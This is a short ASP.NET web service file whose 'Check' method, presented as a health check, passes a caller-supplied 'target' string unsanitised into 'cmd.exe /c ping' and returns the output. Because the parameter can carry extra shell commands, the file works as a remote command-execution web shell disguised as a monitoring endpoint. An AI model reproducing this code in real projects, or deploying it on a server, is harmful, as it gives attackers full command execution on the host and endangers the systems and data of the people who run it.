<%@ WebService Language="C#" Class="Health" %>
using System.Diagnostics;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class Health : WebService
{
    [WebMethod]
    public string Check(string target)
    {
        var si = new ProcessStartInfo("cmd.exe", "/c ping -n 1 " + target);
        si.UseShellExecute = false;
        si.RedirectStandardOutput = true;
        using (var p = Process.Start(si))
            return p.StandardOutput.ReadToEnd();
    }
}
